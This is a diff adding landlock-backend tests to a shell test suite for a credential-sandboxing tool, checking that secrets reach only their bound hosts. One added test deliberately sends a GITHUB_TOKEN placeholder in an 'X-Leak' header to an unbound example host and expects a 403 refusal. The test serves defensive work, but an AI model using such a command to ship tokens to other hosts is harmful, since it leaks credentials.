@@ -114,11 +114,40 @@ print(r.status, r.read().decode().replace(chr(10), ' '))"
         else
                 not_ok "creds: ... reported naming the credential" "$(cat "$EV")"
         fi
+        creds_landlock "$c"
         creds_explain
         creds_refusals
         creds_brokers
         rm -f "$FAKE_HOME/.config/cordon/secrets/store/github-token" \
                 "$FAKE_HOME/.config/cordon/secrets/store/npm-token"
+}
+
+# The landlock backend (no namespaces): its loopback proxy, forked after the secrets are read,
+# is the only process that has them (the command cannot read its memory: rules.sh tries that
+# for the session CA's key, which lives in the same process); the command gets the same
+# placeholders.
+creds_landlock() {
+        if ! "$CORDON" probe 2>/dev/null | grep -qE '^landlock +(full|partial) '; then
+                skip "creds (landlock)" "no landlock backend here (cordon probe)"
+                return 0
+        fi
+        l="--backend landlock $1"
+        net "creds (landlock): curl's Bearer placeholder: the server receives the secret" 0 \
+                "*Authorization: Bearer cordon-cred-*" - + $l -- sh -c \
+                "curl -s --max-time 20 -H \"Authorization: Bearer \$GITHUB_TOKEN\" \
+                https://tls.example.test:$T/echo-head/@M@"
+        if creds_echoed "$MARK" | grep -qF "Authorization: Bearer $SECRET |"; then
+                ok "creds (landlock): ... the server's log has the secret"
+        else
+                not_ok "creds (landlock): ... the server's log has the secret" "$(creds_echoed "$MARK")"
+        fi
+        case $OUT in
+        *"$SECRET"*) not_ok "creds (landlock): ... the echo into the sandbox holds no secret" "$OUT" ;;
+        *) ok "creds (landlock): ... the echo into the sandbox holds no secret" ;;
+        esac
+        net "creds (landlock): the placeholder to another host is refused (403) and reported" 0 \
+                "403/000" "req:a.example.test:$P~credentials: the placeholder of GITHUB_TOKEN (secret github-token) was sent to a host it is not bound to*" \
+                - $l -- sh -c "$CREDS_CURL -H \"X-Leak: \$GITHUB_TOKEN\" http://a.example.test:$P/hello/@M@"
 }
 
 # Nothing the sandbox or the user sees holds a secret: every run's output, stderr and events.
